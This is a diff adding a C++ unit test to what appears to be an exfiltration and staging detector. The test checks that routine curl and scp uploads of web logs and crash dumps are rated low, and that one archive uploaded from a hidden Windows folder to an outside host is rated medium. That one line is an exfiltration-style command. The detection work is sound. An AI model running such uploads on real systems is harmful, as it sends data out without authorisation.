@@ -81,6 +81,22 @@ TEST(Staging, EverydayTransfersAreLowAtTheMost) {
   EXPECT_THAT(records_of(run, "file_transfer"), SizeIs(3));
 }
 
+TEST(Staging, WhatWebServersAndWindowsKeepIsSentByRight) {
+  const auto run = judge_staging(
+      {process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
+                    "curl -F f=@C:\\inetpub\\logs\\u.log https://log.example"),
+       process_fact(at(1), "C:\\T\\scp.exe", "scp -r C:\\inetpub\\wwwroot adm@web2:/www"),
+       process_fact(at(2), "C:\\Windows\\System32\\curl.exe",
+                    "curl -T C:\\Windows\\Minidump\\1.dmp https://vendor.example")});
+  for (const Finding& finding : run.context->findings)
+    EXPECT_LE(severity_of(finding), Severity::low) << finding.title;
+  const auto hidden =
+      judge_staging({process_fact(at(0), "C:\\Windows\\System32\\curl.exe",
+                                  "curl -T C:\\Windows\\Debug\\1.rar https://h.example")});
+  ASSERT_THAT(hidden.context->findings, SizeIs(1));
+  EXPECT_EQ(severity_of(hidden.context->findings[0]), Severity::medium);
+}
+
 Fact burst(const std::string& folder, const std::string& documents) {
   return usn_fact("burst", at(0), folder,
                   {{"count", "40"},
